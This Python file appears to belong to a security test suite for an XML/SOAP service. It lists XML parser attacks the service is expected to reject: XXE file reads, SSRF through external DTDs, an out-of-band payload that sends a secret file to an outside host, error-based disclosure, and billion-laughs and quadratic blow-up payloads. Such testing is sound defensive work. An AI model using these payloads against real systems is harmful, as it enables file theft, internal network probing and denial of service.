"""Document types and entities: what an XML parser may be talked into reading, fetching or repeating."""

from __future__ import annotations

import classic
from door import ANSWERED, text
from messages import MARK, Call, envelope
from rows.attack import ELSEWHERE, OURS, OWASP, SECRET_FILE, SPYNE, WS_ATTACKER, WS_ATTACKS, Attack, Category
from rows.shapes import after_doctype, for_mark

LAUGHS = "<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
_OUT_OF_BAND = (
    f'[<!ENTITY % f SYSTEM "{SECRET_FILE}"><!ENTITY % d SYSTEM "{ELSEWHERE}/out.dtd">%d;'
    f"<!ENTITY % all \"<!ENTITY send SYSTEM '{ELSEWHERE}/?%f;'>\">%all;]"
)
_CONNECTOR = ("KSZBCSSWebServiceConnector",)


def _inner(document: str) -> object:
    """The same inside the connector's string, which is parsed once more."""
    return text(lambda call: classic.envelope(document))


def _laughing_attribute(call: Call) -> str:
    return f"<!DOCTYPE x [{LAUGHS}]>" + envelope(call.element.replace(" xmlns:", ' a="&a11;" xmlns:', 1))


ROWS = (
    Attack("DOCTYPE alone", "a document type without a word in it", SPYNE, after_doctype(""), "Client"),
    Attack(
        "DOCTYPE in UTF-16",
        "the same where a filter on bytes does not see it",
        OURS,
        after_doctype("", encoding="utf-16"),
        "Client",
    ),
    Attack(
        "external DTD",
        "a document type that lies elsewhere: the parser calls there",
        OWASP,
        after_doctype(f'SYSTEM "{ELSEWHERE}/x.dtd"'),
        "Client",
    ),
    Attack(
        "external DTD in a file",
        "a document type in a file of this machine",
        OWASP,
        after_doctype(f'SYSTEM "{SECRET_FILE}"'),
        "Client",
    ),
    Attack(
        "public DTD",
        "a public identifier, which a catalogue on this machine may know",
        OWASP,
        after_doctype(f'PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{ELSEWHERE}/x.dtd"'),
        "Client",
    ),
    Attack("internal entity", "a text under a name", OWASP, after_doctype(f"[<!ENTITY x '{MARK}'>]", "&x;"), "Client"),
    Attack(
        "file by an entity",
        "XXE: the answer would show a file of this machine",
        OWASP,
        after_doctype(f'[<!ENTITY x SYSTEM "{SECRET_FILE}">]', "&x;"),
        "Client",
    ),
    Attack(
        "address by an entity",
        "XXE as SSRF: the parser calls an address inside our network",
        OWASP,
        after_doctype(f'[<!ENTITY x SYSTEM "{ELSEWHERE}/">]', "&x;"),
        "Client",
    ),
    Attack(
        "directory by an entity",
        "XXE: the list of a folder",
        OWASP,
        after_doctype('[<!ENTITY x SYSTEM "file:///">]', "&x;"),
        "Client",
    ),
    Attack(
        "endless file by an entity",
        "XXE: a device that never ends",
        OWASP,
        after_doctype('[<!ENTITY x SYSTEM "file:///dev/zero">]', "&x;"),
        "Client",
    ),
    Attack(
        "entity by other schemes",
        "XXE by ftp, jar, netdoc and php filters",
        OWASP,
        after_doctype(
            '[<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">'
            '<!ENTITY y SYSTEM "jar:file:///x.zip!/x"><!ENTITY z SYSTEM "netdoc:///x">]',
            "&x;&y;&z;",
        ),
        "Client",
    ),
    Attack(
        "parameter entity",
        "an entity of the DTD that makes another one",
        OWASP,
        after_doctype("[<!ENTITY % x '<!ENTITY y \"z\">'> %x;]", "&y;"),
        "Client",
    ),
    Attack(
        "file by a parameter entity",
        "XXE in the DTD itself, which needs no reference in the text",
        OWASP,
        after_doctype(f'[<!ENTITY % x SYSTEM "{SECRET_FILE}"> %x;]'),
        "Client",
    ),
    Attack(
        "address by a parameter entity",
        "SSRF in the DTD itself",
        OWASP,
        after_doctype(f'[<!ENTITY % x SYSTEM "{ELSEWHERE}/x.dtd"> %x;]'),
        "Client",
    ),
    Attack(
        "file sent out of band",
        "a file is put into an address, which is then called",
        OWASP,
        after_doctype(_OUT_OF_BAND, "&send;"),
        "Client",
    ),
    Attack(
        "file in an error message",
        "a file is put into a name that does not exist, for the error to show it",
        OWASP,
        after_doctype(
            f'[<!ENTITY % f SYSTEM "{SECRET_FILE}"><!ENTITY % e "<!ENTITY &#37; x SYSTEM \'file:///none/%f;\'>">%e;%x;]'
        ),
        "Client",
    ),
    Attack(
        "billion laughs in text",
        "entities of entities, ten times ten, eleven deep",
        WS_ATTACKER,
        after_doctype(f"[{LAUGHS}]", "&a11;"),
        "Client",
    ),
    Attack(
        "billion laughs in an attribute",
        "the same where no text handler counts",
        WS_ATTACKER,
        text(_laughing_attribute),
        "Client",
    ),
    Attack(
        "billion laughs declared only",
        "the same, never referred to",
        WS_ATTACKS,
        after_doctype(f"[{LAUGHS}]"),
        "Client",
    ),
    Attack(
        "quadratic blow-up",
        "one long entity, referred to very often: no depth to limit",
        WS_ATTACKER,
        after_doctype(f"[<!ENTITY a '{'a' * 50_000}'>]", "&a;" * 5_000),
        "Client",
    ),
    Attack(
        "entity of itself",
        "an entity that holds itself",
        OWASP,
        after_doctype("[<!ENTITY a '&b;'><!ENTITY b '&a;'>]", "&a;"),
        "Client",
    ),
    Attack(
        "very many entities",
        "5,000 entities that nobody refers to",
        OURS,
        after_doctype("[" + "".join(f"<!ENTITY a{n} 'a'>" for n in range(5_000)) + "]"),
        "Client",
    ),
    Attack(
        "entity in an attribute",
        "the number in an attribute, by an entity",
        WS_ATTACKER,
        text(
            lambda call: (
                f"<!DOCTYPE x [<!ENTITY x '{MARK}'>]>" + envelope(call.element.replace(" xmlns:", ' a="&x;" xmlns:', 1))
            )
        ),
        "Client",
    ),
    Attack(
        "attribute by default",
        "the DTD adds an attribute that no one sees in the message",
        OWASP,
        after_doctype("[<!ATTLIST echo a CDATA 'b'>]"),
        "Client",
    ),
    Attack(
        "Id by a DTD",
        "the DTD makes an attribute an Id, for a signature to refer to",
        OURS,
        after_doctype("[<!ATTLIST echo a ID #IMPLIED>]"),
        "Client",
    ),
    Attack(
        "notation",
        "an entity that no parser reads, with the program that would",
        OWASP,
        after_doctype('[<!NOTATION n SYSTEM "/bin/sh"><!ENTITY x SYSTEM "x" NDATA n>]'),
        "Client",
    ),
    Attack("undeclared entity", "a name that only HTML knows", OURS, for_mark("&nbsp;"), "Client"),
    Attack(
        "DOCTYPE after the envelope",
        "where only a lax parser takes it",
        OURS,
        text(lambda call: envelope(call.element) + "<!DOCTYPE x>"),
        "Client",
    ),
    Attack(
        "DOCTYPE inside CDATA",
        "markup as text stays text",
        OURS,
        text(
            lambda call: envelope(
                call.marked(f"{MARK[:4]}<![CDATA[{MARK[4:]}]]>"), "<h><![CDATA[<!DOCTYPE x [<!ENTITY x 'y'>]>]]></h>"
            )
        ),
        ANSWERED,
    ),
    Attack(
        "inner DOCTYPE",
        "the document inside the connector's string has a document type",
        OURS,
        _inner(f"<!DOCTYPE x><n{MARK}/>"),
        "000050",
        _CONNECTOR,
    ),
    Attack(
        "inner file by an entity",
        "XXE in the document inside the connector's string",
        OURS,
        _inner(f'<!DOCTYPE x [<!ENTITY x SYSTEM "{SECRET_FILE}">]><SSDNRequest>&x;</SSDNRequest>'),
        "000050",
        _CONNECTOR,
    ),
    Attack(
        "inner address by an entity",
        "SSRF in the document inside the connector's string",
        OURS,
        _inner(f'<!DOCTYPE x SYSTEM "{ELSEWHERE}/"><SSDNRequest/>'),
        "000050",
        _CONNECTOR,
    ),
    Attack(
        "inner billion laughs",
        "in the document inside the connector's string",
        OURS,
        _inner(f"<!DOCTYPE x [{LAUGHS}]><SSDNRequest>&a11;</SSDNRequest>"),
        "000050",
        _CONNECTOR,
    ),
)
CATEGORY = Category(
    "Document types and entities",
    "What an XML parser may be talked into reading, fetching or repeating. No DTD is taken in, so nothing of it is.",
    ROWS,
)
